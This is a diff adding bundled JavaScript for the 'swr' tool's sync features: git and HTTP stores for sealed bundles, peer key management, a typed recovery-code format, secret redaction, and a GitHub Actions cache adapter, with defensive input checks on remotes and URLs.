+                return reject(new Error(line.replace(/\p{Cc}/gu, ' ').slice(0, 300)));
+            }
+            resolve(Buffer.concat(out));
+        });
+        child.stdin.on('error', () => undefined);
+        child.stdin.end(opts.input ?? '');
+    });
+}
+const URL_RE = /^([a-z][a-z0-9+.-]*):\/\//i;
+const ALLOWED = new Set(['file', 'git', 'http', 'https', 'ssh']);
+function withoutPassword(url) {
+    const m = URL_RE.exec(url);
+    if (!m)
+        return url;
+    try {
+        const u = new URL(url);
+        if (!u.password)
+            return url;
+        u.password = '';
+        return u.toString();
+    }
+    catch {
+        return url;
+    }
+}
+async function resolveRemote(remote, ctx) {
+    if (remote === '' || remote.startsWith('-') || /\p{Cc}/u.test(remote) || remote.length > 2000)
+        throw new UsageError(`bad git remote ${JSON.stringify(remote.slice(0, 80))}`);
+    const scheme = URL_RE.exec(remote)?.[1]?.toLowerCase();
+    if (scheme) {
+        if (!ALLOWED.has(scheme))
+            throw new UsageError(`git remote: the ${scheme} transport is not allowed`);
+        return { url: remote, shown: withoutPassword(remote) };
+    }
+    if (remote.includes('::'))
+        throw new UsageError('git remote: transport helpers are not allowed');
+    // scp-like user@host:path (a colon before any slash) is ssh.
+    if (/^[^/]*:/.test(remote))
+        return { url: remote, shown: remote };
+    const local = path.resolve(ctx.cwd, remote);
+    if (remote.includes('/') || fs.existsSync(local))
+        return { url: local, shown: local };
+    // A remote name of the repository around the working directory.
+    let url;
+    try {
+        url = (await git(ctx, ['remote', 'get-url', '--', remote])).toString('utf8').trim();
+    }
+    catch {
+        throw new UsageError(`git remote "${remote}": no such remote here and no such path`);
+    }
+    if (url === remote)
+        throw new UsageError(`git remote "${remote}" resolves to itself`);
+    return resolveRemote(url, ctx);
+}
+/** `git:REMOTE#NAME` → its parts. */
+function git_store_parseGitLocator(locator) {
+    const body = locator.slice('git:'.length);
+    const at = body.lastIndexOf('#');
+    if (!locator.startsWith('git:') || at <= 0)
+        throw new UsageError(`bad git locator ${JSON.stringify(locator.slice(0, 120))}`);
+    return { remote: body.slice(0, at), name: checkName(body.slice(at + 1)) };
+}
+async function withScratchRepo(ctx, fn) {
+    const dir = fs.mkdtempSync(path.join(ctx.tmpDir, 'swr-git-'));
+    try {
+        await git(ctx, ['init', '--bare', '--quiet', dir]);
+        return await fn(dir);
+    }
+    finally {
+        fs.rmSync(dir, { recursive: true, force: true });
+    }
+}
+function git_store_gitStore(spelling, ctx) {
+    const remoteSpec = spelling.slice('git:'.length);
+    const fail = (why) => storeError(spelling, why);
+    return {
+        spelling,
+        async put(bytes, meta) {
+            const name = checkName(meta.name);
+            const remote = await resolveRemote(remoteSpec, ctx);
+            return withScratchRepo(ctx, async (dir) => {
+                const g = (args, input) => git(ctx, ['--git-dir', dir, ...args], { input });
+                try {
+                    const blob = (await g(['hash-object', '-w', '--stdin'], bytes)).toString().trim();
+                    const tree = (await g(['mktree'], `100644 blob ${blob}\t${FILE}\n`)).toString().trim();
+                    const commit = (await g(['commit-tree', tree, '-m', `swr bundle ${name}\n\nsha256 ${meta.sha256}\n`]))
+                        .toString()
+                        .trim();
+                    await g(['push', '--quiet', '--no-verify', remote.url, `+${commit}:refs/swr/${name}`]);
+                }
+                catch (err) {
+                    throw fail(`push failed: ${err.message}`);
+                }
+                return `git:${remote.shown}#${name}`;
+            });
+        },
+        locate: name => `git:${remoteSpec}#${checkName(name)}`,
+        async get(locator) {
+            const { remote: r, name } = git_store_parseGitLocator(locator);
+            const remote = await resolveRemote(r, ctx);
+            return withScratchRepo(ctx, async (dir) => {
+                const g = (args, maxOut) => git(ctx, ['--git-dir', dir, ...args], { maxOut });
+                try {
+                    await g(['fetch', '--quiet', '--no-tags', remote.url, `+refs/swr/${name}:refs/swr/got`]);
+                }
+                catch (err) {
+                    const msg = err.message;
+                    throw fail(/couldn't find remote ref/i.test(msg) ? `no copy named ${name}` : `fetch failed: ${msg}`);
+                }
+                let size;
+                try {
+                    size = Number((await g(['cat-file', '-s', `refs/swr/got:${FILE}`])).toString().trim());
+                }
+                catch {
+                    throw fail(`refs/swr/${name} holds no ${FILE}`);
+                }
+                if (!(size <= MAX_BUNDLE_BYTES))
+                    throw fail(`${size} bytes, over the ${MAX_BUNDLE_BYTES}-byte limit`);
+                const bytes = await g(['cat-file', 'blob', `refs/swr/got:${FILE}`], MAX_BUNDLE_BYTES);
+                const ct = Number((await g(['show', '-s', '--format=%ct', 'refs/swr/got'])).toString());
+                return { bytes, storedAt: Number.isFinite(ct) && ct > 0 ? new Date(ct * 1000) : undefined };
+            });
+        },
+        async stat(locator) {
+            const { remote: r, name } = git_store_parseGitLocator(locator);
+            try {
+                const remote = await resolveRemote(r, ctx);
+                const out = await git(ctx, ['ls-remote', remote.url, `refs/swr/${name}`]);
+                return out.length > 0
+                    ? { reachable: true }
+                    : { reachable: false, detail: `no copy named ${name}` };
+            }
+            catch (err) {
+                return { reachable: false, detail: err.message };
+            }
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/http-store.ts
+/**
+ * An HTTP(S) URL template as a store: `push` PUTs the bundle to the template filled in, `pull`
+ * GETs it back. Placeholders: `{name}` (the copy's name) and `{sha256}` (the hex SHA-256 of the
+ * stored bytes, for content-addressed stores); a template without them is one fixed URL. The
+ * locator is the filled-in URL.
+ *
+ * Credentials never sit in the URL (a URL with a user or password is refused, since the locator
+ * ends up in the recovery code): the Authorization header's value is read from the environment
+ * variable named by `--auth-env VAR`, at each run. Redirects are not followed. Every request has a
+ * time limit and every body a size limit; 429 and 5xx answers, cut-short bodies and timeouts are
+ * retried (store.ts) until the operation's deadline.
+ */
+
+
+
+const PLACEHOLDER = /\{([^}]*)\}/g;
+const KNOWN = new Set(['name', 'sha256']);
+function checkUrl(url, what) {
+    let u;
+    try {
+        u = new URL(url);
+    }
+    catch {
+        throw new UsageError(`${what}: not a URL: ${JSON.stringify(url.slice(0, 120))}`);
+    }
+    if (u.protocol !== 'http:' && u.protocol !== 'https:')
+        throw new UsageError(`${what}: only http and https URLs are stores`);
+    if (u.username || u.password)
+        throw new UsageError(`${what}: a URL must not hold credentials (they would end up in the recovery code); use --auth-env VAR`);
+    return u;
+}
+/** The template with its placeholders filled in. */
+function fillTemplate(template, values) {
+    const url = template.replace(PLACEHOLDER, (_, key) => {
+        if (!KNOWN.has(key))
+            throw new UsageError(`${template.slice(0, 120)}: unknown placeholder {${key}} (use {name} or {sha256})`);
+        return key === 'name' ? checkName(values.name) : values.sha256;
+    });
+    checkUrl(url, template.slice(0, 120));
+    return url;
+}
+/** Retry-After in seconds (delta-seconds or an HTTP date), or undefined. */
+function retryAfterSeconds(value, now = Date.now()) {
+    if (!value)
+        return undefined;
+    if (/^\d{1,7}$/.test(value.trim()))
+        return Number(value.trim());
+    const t = Date.parse(value);
+    return Number.isFinite(t) ? Math.max(0, (t - now) / 1000) : undefined;
+}
+function headers(ctx) {
+    const h = { 'user-agent': 'swr-sync' };
+    if (ctx.authEnv) {
+        const v = ctx.env[ctx.authEnv];
+        if (v === undefined || v === '')
+            throw new UsageError(`--auth-env ${ctx.authEnv}: the variable is not set`);
+        if (/[\r\n]/.test(v))
+            throw new UsageError(`--auth-env ${ctx.authEnv}: the value holds a line break`);
+        h.authorization = v;
+    }
+    return h;
+}
+function transientStatus(status) {
+    return status === 429 || status === 408 || status >= 500;
+}
+const TRANSIENT_CODES = new Set([
+    'ECONNRESET',
+    'EPIPE',
+    'ETIMEDOUT',
+    'UND_ERR_SOCKET',
+    'UND_ERR_CONNECT_TIMEOUT',
+    'UND_ERR_HEADERS_TIMEOUT',
+    'UND_ERR_BODY_TIMEOUT'
+]);
+/** A fetch error: a timeout or a reset may pass; a refused connection or a bad URL will not. */
+function classify(err) {
+    const e = err;
+    const code = e.cause?.code;
+    if (e.name === 'TimeoutError' || e.name === 'AbortError')
+        return new Transient('no answer within the request time limit');
+    const msg = String(e.cause?.message ?? e.message).slice(0, 120);
+    if (code && TRANSIENT_CODES.has(code))
+        return new Transient(`the connection failed: ${msg}`);
+    return new Error(`cannot connect (${code ?? msg})`);
+}
+/** The body, at most `max` bytes, and exactly Content-Length bytes when the server sent one. */
+async function readBody(res, max) {
+    const declared = res.headers.get('content-length');
+    if (declared !== null && Number(declared) > max)
+        throw new Error(`${declared} bytes, over the ${max}-byte limit`);
+    const chunks = [];
+    let total = 0;
+    if (res.body) {
+        for await (const chunk of res.body) {
+            total += chunk.length;
+            if (total > max)
+                throw new Error(`more than the ${max}-byte limit`);
+            chunks.push(Buffer.from(chunk));
+        }
+    }
+    if (declared !== null && Number(declared) !== total)
+        throw new Transient(`the body was cut short (${total} of ${declared} bytes)`);
+    return Buffer.concat(chunks);
+}
+function http_store_httpStore(template, ctx) {
+    checkUrl(template.replace(PLACEHOLDER, 'x'), template.slice(0, 120));
+    const shown = template.slice(0, 200);
+    const fail = (why) => storeError(shown, why);
+    async function request(method, url, body) {
+        let res;
+        try {
+            res = await fetch(url, {
+                method,
+                ...(body ? { body } : {}),
+                headers: {
+                    ...headers(ctx),
+                    ...(body ? { 'content-type': 'application/octet-stream' } : {})
+                },
+                redirect: 'manual',
+                signal: AbortSignal.timeout(ctx.requestMs)
+            });
+        }
+        catch (err) {
+            if (err instanceof UsageError)
+                throw err;
+            throw classify(err);
+        }
+        if (transientStatus(res.status)) {
+            await res.body?.cancel().catch(() => undefined);
+            throw new Transient(`HTTP ${res.status}`, retryAfterSeconds(res.headers.get('retry-after')));
+        }
+        return res;
+    }
+    return {
+        spelling: shown,
+        async put(bytes, meta) {
+            const url = fillTemplate(template, meta);
+            await withRetries(`PUT ${url}`, ctx, async () => {
+                const res = await request('PUT', url, bytes);
+                await res.body?.cancel().catch(() => undefined);
+                if (res.status < 200 || res.status > 299)
+                    throw fail(`PUT answered HTTP ${res.status}`);
+            }).catch(err => {
+                throw err instanceof Transient ? fail(err.message) : err;
+            });
+            return url;
+        },
+        locate(name) {
+            if (template.includes('{sha256}'))
+                throw new UsageError(`${shown}: names each copy by its hash; pull it with the recovery code (--code)`);
+            return fillTemplate(template, { name, sha256: '' });
+        },
+        async get(locator) {
+            checkUrl(locator, shown);
+            return withRetries(`GET ${locator}`, ctx, async () => {
+                const res = await request('GET', locator);
+                if (res.status === 404) {
+                    await res.body?.cancel().catch(() => undefined);
+                    throw fail('no copy there (HTTP 404)');
+                }
+                if (res.status !== 200) {
+                    await res.body?.cancel().catch(() => undefined);
+                    throw fail(`GET answered HTTP ${res.status}`);
+                }
+                let bytes;
+                try {
+                    bytes = await readBody(res, MAX_BUNDLE_BYTES);
+                }
+                catch (err) {
+                    if (err instanceof Transient)
+                        throw err;
+                    if (err.name === 'TimeoutError' || err.name === 'AbortError')
+                        throw new Transient('the body did not arrive within the request time limit');
+                    if (/terminated|other side closed/i.test(err.message))
+                        throw new Transient('the body was cut short');
+                    throw fail(err.message);
+                }
+                const lm = Date.parse(res.headers.get('last-modified') ?? '');
+                return { bytes, storedAt: Number.isFinite(lm) ? new Date(lm) : undefined };
+            });
+        },
+        async stat(locator) {
+            try {
+                checkUrl(locator, shown);
+                const res = await withRetries(`HEAD ${locator}`, ctx, () => request('HEAD', locator));
+                await res.body?.cancel().catch(() => undefined);
+                if (res.status !== 200)
+                    return { reachable: false, detail: `HTTP ${res.status}` };
+                const lm = Date.parse(res.headers.get('last-modified') ?? '');
+                return { reachable: true, storedAt: Number.isFinite(lm) ? new Date(lm) : undefined };
+            }
+            catch (err) {
+                return { reachable: false, detail: err.message };
+            }
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/open.ts
+/** A store from its spelling (`--to`, `--from`) or from a locator (a recovery code, a record). */
+
+
+
+
+function openStore(spec, ctx) {
+    switch (storeKind(spec)) {
+        case 'git':
+            return gitStore(spec, ctx);
+        case 'http':
+            return httpStore(spec, ctx);
+        case 'actions':
+            if (!ctx.actions)
+                throw new UsageError('the Actions cache store is not available here');
+            return ctx.actions(ctx);
+        default:
+            throw new UsageError(`unknown store ${JSON.stringify(spec.slice(0, 120))}: use git:REMOTE, an http(s) URL template, or actions`);
+    }
+}
+/** The store that holds the copy at `locator`. */
+function storeOfLocator(locator, ctx) {
+    if (storeKind(locator) === 'git')
+        return gitStore(`git:${parseGitLocator(locator).remote}`, ctx);
+    return openStore(locator, ctx);
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/peers.ts
+/**
+ * Named peers: other machines' sync public keys (X-Wing), so `swr push --to-peer NAME` seals a copy
+ * that they can open. Kept in the private state directory (`sync/peers.json`); a key is added once
+ * under a name and never silently replaced. Fingerprints (the recipient id) are for checking a key
+ * out of band: a key taken on trust is encryption to whoever handed it over.
+ */
+
+
+
+
+
+
+
+const peers_FILE = 'peers.json';
+const MAX_PEERS = 256;
+function file(stateDir) {
+    return path.join(stateDir, 'sync', peers_FILE);
+}
+function loadPeers(stateDir) {
+    let text;
+    try {
+        const st = fs.lstatSync(file(stateDir));
+        if (!st.isFile() || st.size > 1 << 20)
+            throw new SwrError(`${file(stateDir)}: not a regular file under 1 MiB`, EXIT.UNREPAIRABLE);
+        text = fs.readFileSync(file(stateDir), 'utf8');
+    }
+    catch (err) {
+        if (errnoCode(err) === 'ENOENT')
+            return [];
+        throw err;
+    }
+    let doc;
+    try {
+        doc = JSON.parse(text);
+    }
+    catch {
+        throw new SwrError(`${file(stateDir)}: not JSON`, EXIT.UNREPAIRABLE);
+    }
+    return Object.entries(doc.peers ?? {}).map(([name, v]) => {
+        const key = typeof v === 'string' ? parsePublicKey(v) : undefined;
+        if (!key || !NAME_RE.test(name))
+            throw new SwrError(`${file(stateDir)}: peer "${name.slice(0, 64)}" is malformed`, EXIT.UNREPAIRABLE);
+        return { name, key, fingerprint: recipientId(key) };
+    });
+}
+function save(stateDir, peers) {
+    ensurePrivateDir(stateDir, 'sync');
+    const doc = {
+        format: 'swr-peers/1',
+        peers: Object.fromEntries(peers.map(p => [p.name, p.key.toString('base64')]))
+    };
+    writeFileAtomic(file(stateDir), JSON.stringify(doc, null, 2) + '\n', { mode: 0o600 });
+}
+/** Add a peer; the same key under the same name again is a no-op, anything else a refusal. */
+function addPeer(stateDir, name, keyText) {
+    if (!NAME_RE.test(name))
+        throw new UsageError(`bad peer name ${JSON.stringify(name.slice(0, 64))}: use letters, digits, ".", "_" or "-"`);
+    const key = parsePublicKey(keyText);
+    if (!key)
+        throw new UsageError('not a sync public key (base64 of 1216 bytes, as "swr peer mine" prints)');
+    const peers = loadPeers(stateDir);
+    const peer = { name, key, fingerprint: recipientId(key) };
+    const same = peers.find(p => p.name === name);
+    if (same) {
+        if (same.key.equals(key))
+            return { peer: same, added: false };
+        throw new UsageError(`peer "${name}" already has another key: remove it first`);
+    }
+    if (peers.length >= MAX_PEERS)
+        throw new UsageError(`at most ${MAX_PEERS} peers`);
+    save(stateDir, [...peers, peer]);
+    return { peer, added: true };
+}
+function removePeer(stateDir, name) {
+    const peers = loadPeers(stateDir);
+    const gone = peers.find(p => p.name === name);
+    if (!gone)
+        throw new UsageError(`no peer named "${name.slice(0, 64)}"`);
+    save(stateDir, peers.filter(p => p !== gone));
+    return gone;
+}
+function findPeer(stateDir, name) {
+    const p = loadPeers(stateDir).find(x => x.name === name);
+    if (!p)
+        throw new UsageError(`no peer named "${name.slice(0, 64)}" (add it with "swr peer add")`);
+    return p;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/recovery-code.ts
+/**
+ * The recovery code `swr push` prints: everything a fresh machine needs to find one stored copy and
+ * to know it is the one that was pushed, in one line a person can type:
+ *
+ *   swr1:PIN:WORD:LOCATOR
+ *
+ *   PIN      the first 125 bits of the SHA-256 of the stored bytes, 25 base32 letters in five
+ *            groups of five (abcde-fghij-…); a copy whose hash differs is refused
+ *   WORD     a checksum word over PIN and LOCATOR: most typing mistakes are caught before any
+ *            network access (one in 128 slips through, and is then refused by the PIN or the store)
+ *   LOCATOR  where the copy is (store.ts): git:REMOTE#NAME, an http(s) URL, or actions:KEY
+ *
+ * The code holds no secret: the bundle is sealed, and opening it needs the sync key.
+ */
+
+
+
+const CODE_PREFIX = 'swr1';
+const B32 = 'abcdefghijklmnopqrstuvwxyz234567';
+const PIN_CHARS = 25;
+/** Short, distinct, easy to say and to type. */
+const WORDS = ('acorn amber anchor apple arrow aspen badge bamboo banjo barley basil beacon berry birch ' +
+    'bison blossom bonfire breeze brick bridge brook cabin cactus camel candle canyon carbon cargo ' +
+    'cedar cello chalk cherry cider cinder citrus clover cobalt comet copper coral cotton crane ' +
+    'crater cricket dahlia delta denim desert dolphin dune eagle ember falcon fern fiddle fjord ' +
+    'flint forest fossil garnet geyser ginger glacier granite gravel harbor hazel heron hickory ' +
+    'honey island ivory jasper juniper kayak kettle lagoon lantern lemon lilac linen lotus magnet ' +
+    'maple marble meadow mesa mint moss nectar nickel nutmeg oasis olive onyx orbit orchid otter ' +
+    'oyster paddle pebble pepper pine planet plum prairie quartz quill radish raven reef ribbon ' +
+    'river rocket saddle salmon sandal sierra silver spruce summit tundra tulip velvet violet ' +
+    'walnut willow zephyr').split(' ');
+function pinOf(sha256Hex) {
+    const bytes = Buffer.from(sha256Hex, 'hex');
+    let bits = '';
+    for (const b of bytes.subarray(0, 16))
+        bits += b.toString(2).padStart(8, '0');
+    let out = '';
+    for (let i = 0; i < PIN_CHARS; i++)
+        out += B32[parseInt(bits.slice(i * 5, i * 5 + 5), 2)];
+    return out;
+}
+function checkWord(pin, locator) {
+    const h = createHash('sha256').update(`swr-code\0${pin}\0${locator}`).digest();
+    return WORDS[(h[0] ?? 0) & 127];
+}
+function grouped(pin) {
+    return pin.match(/.{1,5}/g)?.join('-') ?? pin;
+}
+function makeCode(locator, sha256Hex) {
+    const pin = pinOf(sha256Hex);
+    return `${CODE_PREFIX}:${grouped(pin)}:${checkWord(pin, locator)}:${locator}`;
+}
+/** Parse a typed code; every mistake is a one-line usage error. */
+function parseCode(text) {
+    const code = text.trim();
+    const parts = /^([^:]*):([^:]*):([^:]*):(.+)$/s.exec(code);
+    if (!parts || parts[1]?.toLowerCase() !== CODE_PREFIX)
+        throw new UsageError(`not a recovery code (it starts with "${CODE_PREFIX}:")`);
+    const pin = (parts[2] ?? '').toLowerCase().replace(/[-\s]/g, '');
+    if (pin.length !== PIN_CHARS || [...pin].some(c => !B32.includes(c)))
+        throw new UsageError(`recovery code: the pin has ${PIN_CHARS} letters a-z and digits 2-7`);
+    const locator = parts[4] ?? '';
+    if (/\p{Cc}/u.test(locator) || locator.length > 2000 || !storeKind(locator))
+        throw new UsageError('recovery code: the locator is not a git:, http(s): or actions: one');
+    const word = (parts[3] ?? '').toLowerCase();
+    if (word !== checkWord(pin, locator))
+        throw new UsageError('recovery code: the checksum word does not match (a typo in the pin, the word or the locator)');
+    return { pin, locator };
+}
+/** Whether bytes with this SHA-256 are the copy the code names. */
+function pinMatches(code, sha256Hex) {
+    return pinOf(sha256Hex) === code.pin;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/redact.ts
+/**
+ * A copy published in clear has its known token shapes (GitHub, GitLab, npm, OpenAI, Hugging Face,
+ * Slack, AWS, Google, JWTs, PEM private keys, URL passwords: run/scrub.ts) replaced by `${VAR}`
+ * references before it leaves the machine; `pull --expand` fills them back from the environment.
+ *
+ * Each distinct value gets its own variable (GITHUB_TOKEN, then GITHUB_TOKEN_2, …), never one whose
+ * `${NAME}` already appears in the text, so expansion touches exactly what redaction replaced. The
+ * values are replaced as they appear in the manifest's JSON text, and filled back JSON-escaped:
+ * the expanded text is byte for byte the signed one, so its signatures hold again (and a wrong or
+ * missing value is refused by the signature gate, never written).
+ */
+
+
+function preview(value) {
+    return value.length <= 12 ? '…' : `${value.slice(0, 4)}…${value.slice(-4)}`;
+}
+function redact(text) {
+    const byValue = new Map();
+    const used = new Set();
+    const previews = {};
+    const nameFor = (base, value) => {
+        const known = byValue.get(value);
+        if (known)
+            return known;
+        let name = base;
+        for (let n = 2; used.has(name) || text.includes(`\${${name}}`); n++)
+            name = `${base}_${n}`;
+        used.add(name);
+        byValue.set(value, name);
+        previews[name] = preview(value);
+        return name;
+    };
+    let out = text;
+    for (const { re, variable } of NAMED_TOKEN_SHAPES)
+        out = out.replace(re, (m) => `\${${nameFor(variable, m)}}`);
+    return { text: out, variables: [...used], previews };
+}
+/** `text` with each `${VAR}` of `variables` filled from `env` (JSON-escaped); unset ones refused. */
+function redact_expand(text, variables, env) {
+    const missing = variables.filter(v => env[v] === undefined || env[v] === '');
+    if (missing.length > 0)
+        throw new UsageError(`pull --expand: ${missing.join(', ')} ${missing.length === 1 ? 'is' : 'are'} not set (the copy was redacted; set ${missing.length === 1 ? 'it' : 'them'} to the original values)`);
+    let out = text;
+    for (const v of variables)
+        out = out.split(`\${${v}}`).join(JSON.stringify(env[v]).slice(1, -1));
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/replicas.ts
+/**
+ * What this machine pushed, and where: one record per manifest in the private state directory
+ * (`sync/replicas.json`), read by `swr sync status` to check each copy's reachability, hash and
+ * age. The record is a convenience, not a trust anchor: a pull checks the pin it is given.
+ */
+
+
+
+
+
+const MAX_MANIFESTS = 200;
+function replicas_file(stateDir) {
+    return path.join(stateDir, 'sync', 'replicas.json');
+}
+function load(stateDir) {
+    try {
+        const st = fs.lstatSync(replicas_file(stateDir));
+        if (!st.isFile() || st.size > 4 << 20)
+            return {};
+        const doc = JSON.parse(fs.readFileSync(replicas_file(stateDir), 'utf8'));
+        return doc.manifests && typeof doc.manifests === 'object' ? doc.manifests : {};
+    }
+    catch (err) {
+        // A missing or damaged record is an empty one: it only lists what to check.
+        if (errnoCode(err) === 'ENOENT' || err instanceof SyntaxError)
+            return {};
+        throw err;
+    }
+}
+function replicasOf(stateDir, manifest) {
+    const list = load(stateDir)[manifest];
+    return Array.isArray(list) ? list.filter(r => r && typeof r.locator === 'string') : [];
+}
+/** Replace the record of `manifest` with `replicas` (the newest push). */
+function recordReplicas(stateDir, manifest, replicas) {
+    const all = load(stateDir);
+    delete all[manifest];
+    const kept = Object.entries(all).slice(-(MAX_MANIFESTS - 1));
+    ensurePrivateDir(stateDir, 'sync');
+    const doc = {
+        format: 'swr-replicas/1',
+        manifests: Object.fromEntries([...kept, [manifest, replicas]])
+    };
+    writeFileAtomic(replicas_file(stateDir), JSON.stringify(doc, null, 2) + '\n', { mode: 0o600 });
+}
+
+;// CONCATENATED MODULE: ./src/core/index.ts
+/**
+ * The swr engine, shared by the CLI and the GitHub Action:
+ *
+ *   load (strict parse, schema, rules, digest)
+ *     -> verify (one verifier per kind; one hash pool; incremental cache)
+ *     -> diagnose (wipe signature, cause and fix per entry)
+ *     -> report (JSON, text)
+ *
+ * It prints nothing, exits nowhere and reads no environment: the shells decide all of that.
+ */
+// The use cases, each returning a finished result, and what a result means (status, exit code).
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+// What the shells use besides the engine calls above: renderers, stores, keys, helpers.
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/adapters/cache-service.ts
+
+
+
+const SERVICE = 'github.actions.results.api.v1.CacheService';
+const VERSION_SALT = '1.0';
+/** The client's names for the compressions it writes (zstd is always without --long now). */
+const METHODS = [
+    ['zstd-without-long', 'zstd'],
+    ['gzip', 'gzip']
+];
+/** The cache version @actions/cache computes for `paths` saved with `method` (not on Windows). */
+function cacheVersion(paths, method) {
+    return (0,external_node_crypto_.createHash)('sha256')
+        .update([...paths, method, VERSION_SALT].join('|'))
+        .digest('hex');
+}
+/** How the archive names `abs`: relative to the job's workspace (the client's tar -C), POSIX. */
+function archivePrefix(abs, env) {
+    const ws = env.GITHUB_WORKSPACE || process.cwd();
+    return external_node_path_default().relative(ws, external_node_path_default().resolve(abs)).split((external_node_path_default()).sep).join('/') || '.';
+}
+/** The path spellings whose versions are asked for: absolute, then workspace-relative. */
+function pathForms(abs, env) {
+    const forms = [external_node_path_default().resolve(abs), archivePrefix(abs, env)];
+    return [...new Set(forms)];
+}
+function isGhes(env) {
+    const host = new URL(env.GITHUB_SERVER_URL || 'https://github.com').hostname.toUpperCase();
+    return !(host === 'GITHUB.COM' || host.endsWith('.GHE.COM') || host.endsWith('.LOCALHOST'));
+}
+/** Loaded on first use: most CLI commands never talk to the cache, and the client is large. */
+let httpModule;
+async function newHttpClient(...args) {
+    httpModule ??= Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 4942));
+    return new (await httpModule).HttpClient(...args);
+}
+class CacheService {
+    env;
+    httpClient;
+    http() {
+        this.httpClient ??= newHttpClient('swr', [], { allowRetries: true, maxRetries: 2 });
+        return this.httpClient;
+    }
+    constructor(env) {
+        this.env = env;
+    }
+    get v2() {
+        return !isGhes(this.env) && Boolean(this.env.ACTIONS_CACHE_SERVICE_V2);
+    }
+    auth() {
+        return { Authorization: `Bearer ${this.env.ACTIONS_RUNTIME_TOKEN ?? ''}` };
+    }
+    /** One lookup of `keys` under one version; undefined on a miss. Throws when unreachable. */
+    async ask(key, restoreKeys, version) {
+        if (this.v2) {
+            const base = this.env.ACTIONS_RESULTS_URL ?? '';
+            const url = new URL(`/twirp/${SERVICE}/GetCacheEntryDownloadURL`, base).href;
+            const res = await (await this.http()).post(url, JSON.stringify({ key, restore_keys: restoreKeys, version }), {
+                ...this.auth(),
+                'Content-Type': 'application/json',
+                Accept: 'application/json'
+            });
+            const body = await res.readBody();
+            if (res.message.statusCode !== 200)
+                throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
+            const r = JSON.parse(body);
+            return r.ok && r.signed_download_url && r.matched_key
+                ? { matchedKey: r.matched_key, url: r.signed_download_url }
+                : undefined;
+        }
+        const base = this.env.ACTIONS_CACHE_URL || this.env.ACTIONS_RESULTS_URL || '';
+        const q = `keys=${encodeURIComponent([key, ...restoreKeys].join(','))}&version=${version}`;
+        const res = await (await this.http()).get(new URL(`_apis/artifactcache/cache?${q}`, base).href, {
+            ...this.auth(),
+            Accept: 'application/json;api-version=6.0-preview.1'
+        });
+        const body = await res.readBody();
+        if (res.message.statusCode === 204)
+            return undefined;
+        if (res.message.statusCode !== 200)
+            throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
+        const r = JSON.parse(body);
+        return r.cacheKey && r.archiveLocation
+            ? { matchedKey: r.cacheKey, url: r.archiveLocation }
+            : undefined;
+    }
+    /** The newest archive for `key` (or a restore-keys prefix) under any spelling of `abs`. */
+    async find(abs, key, restoreKeys) {
+        const prefix = archivePrefix(abs, this.env);
+        for (const [method, compression] of METHODS) {
+            for (const form of pathForms(abs, this.env)) {
+                const found = await this.ask(key, restoreKeys, cacheVersion([form], method));
+                if (!found)
+                    continue;
+                return {
+                    matchedKey: found.matchedKey,
+                    exact: found.matchedKey === key,
+                    compression,
+                    prefix,
+                    open: () => this.download(found.url)
+                };
+            }
+        }
+        return undefined;
+    }
+    async download(url) {
+        // A signed URL: no token sent to storage, and the URL itself never printed.
+        const res = await (await newHttpClient('swr')).get(url);
+        const status = res.message.statusCode ?? 0;
+        if (status !== 200) {
+            res.message.resume();
+            throw new Error(`the archive download answered ${status}`);
+        }
+        return res.message;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/adapters/actions-cache.ts
+/**
+ * The real Actions cache behind the engine's CacheClient port, for the Action and for the CLI on a
+ * runner. Restores never go through @actions/cache's restoreCache (it extracts with `tar -P` into
+ * the workspace): cache-service.ts finds and streams the archive and the engine unpacks it. The
+ * client is loaded only to save and to look up, with a private temp directory when RUNNER_TEMP is
+ * unset and its workflow commands kept off a terminal.
+ */
+
+
+
+
+
+/** The cache service is reachable from this process (v2 results service, or the v1 cache URL). */
+function cacheServiceAvailable(env) {
+    return Boolean(env.ACTIONS_RUNTIME_TOKEN && (env.ACTIONS_RESULTS_URL || env.ACTIONS_CACHE_URL));
+}
+/** Saves are off in read-only cache mode (ACTIONS_CACHE_MODE=read, or none). */
+function cacheReadOnly(env) {
+    return env.ACTIONS_CACHE_MODE === 'read' || env.ACTIONS_CACHE_MODE === 'none';
+}
+/** The same client, calling `before` ahead of every request (the Action closes its log shield). */
+function withBefore(client, before) {
+    return {
+        find: (abs, key, restoreKeys) => (before(), client.find(abs, key, restoreKeys)),
+        lookup: (abs, key) => (before(), client.lookup(abs, key)),
+        save: (abs, key) => (before(), client.save(abs, key))
+    };
+}
+/** A workflow command's message as written (%25, %0D, %0A decoded), on one line. */
+function unescapeCommand(msg) {
+    return msg
+        .replace(/%0D|%0A/gi, ' ')
+        .replace(/%25/g, '%')
+        .trim();
+}
+let actions_cache_loaded;
+async function client() {
+    actions_cache_loaded ??= await __nccwpck_require__.e(/* import() */ 641).then(__nccwpck_require__.bind(__nccwpck_require__, 2641));
+    return actions_cache_loaded;
+}
+function actionsCacheClient(opts) {
+    // Absolute paths: the client resolves relative ones against the process's cwd but archives them
+    // relative to GITHUB_WORKSPACE, and the cache version hashes the path strings as given.
+    const spell = (abs) => external_node_path_default().resolve(abs);
+    const onRunner = opts.env.GITHUB_ACTIONS === 'true';
+    const quietly = async (fn) => {
+        // The client reads RUNNER_TEMP from process.env and falls back to /home/actions/temp.
+        const temp = process.env.RUNNER_TEMP
+            ? undefined
+            : external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-cache-'));
+        if (temp)
+            process.env.RUNNER_TEMP = temp;
+        try {
+            return await muted(fn);
+        }
+        finally {
+            if (temp) {
+                delete process.env.RUNNER_TEMP;
+                external_node_fs_default().rmSync(temp, { recursive: true, force: true });
+            }
+        }
+    };
